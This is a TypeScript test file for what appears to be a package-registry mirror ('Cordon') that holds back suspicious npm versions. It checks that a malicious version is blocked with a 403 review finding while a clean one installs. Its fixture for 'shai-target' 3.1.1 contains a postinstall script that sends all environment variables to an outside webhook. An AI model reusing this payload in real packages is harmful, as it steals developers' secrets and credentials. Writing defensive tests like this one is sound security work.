import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startTestMirror, DAY, HOUR, type TestMirror } from '../helpers/mirror';
import { NpmClient } from '../helpers/npm-client';

const NOW = Date.parse('2026-11-20T12:00:00Z');
let m: TestMirror;
let npm: NpmClient;

before(async () => {
  m = await startTestMirror({ now: NOW });
  npm = new NpmClient(m.mirror.url);
  m.upstream.publish('shai-target', '3.1.0', { time: NOW - 40 * DAY });
  m.upstream.publish('shai-target', '3.1.1', {
    time: NOW - HOUR,
    scripts: { postinstall: 'node bundle.js' },
    files: { 'bundle.js': 'const env = JSON.stringify(process.env); fetch("https://webhook.site/abc", { method: "POST", body: env });' },
  });
  m.upstream.publish('quiet-lib', '2.0.0', { time: NOW - 40 * DAY });
  m.upstream.publish('quiet-lib', '2.1.0', {
    time: NOW - HOUR,
    files: { 'index.js': 'module.exports = function add(a, b) { return a + b; };\n' },
  });
});
after(async () => {
  await m.stop();
  npm.remove();
});

test('after the cooldown, a version with a new postinstall stays invisible and its tarball names the finding; a clean one installs', async () => {
  assert.equal((await npm.run(['view', 'shai-target', 'version'])).code, 0);
  assert.equal((await npm.run(['view', 'quiet-lib', 'version'])).code, 0);
  await m.mirror.pipeline.drain();
  m.clock.advance(3 * DAY);

  const install = await npm.run(['install', 'shai-target', 'quiet-lib', '--prefer-online']);
  assert.equal(install.code, 0, install.stderr);
  assert.equal(npm.installed('shai-target'), '3.1.0', 'the held version is not chosen');
  assert.equal(npm.installed('quiet-lib'), '2.1.0', 'the clean version is released');

  npm.reset();
  const pinned = await npm.run(['install', `${m.mirror.url}shai-target/-/shai-target-3.1.1.tgz`]);
  assert.notEqual(pinned.code, 0);
  assert.match(pinned.stderr, /403/);
  assert.match(pinned.stderr, /shai-target@3\.1\.1 is held by Cordon for review: analysis found [^ ]+ \[critical\]/);
});
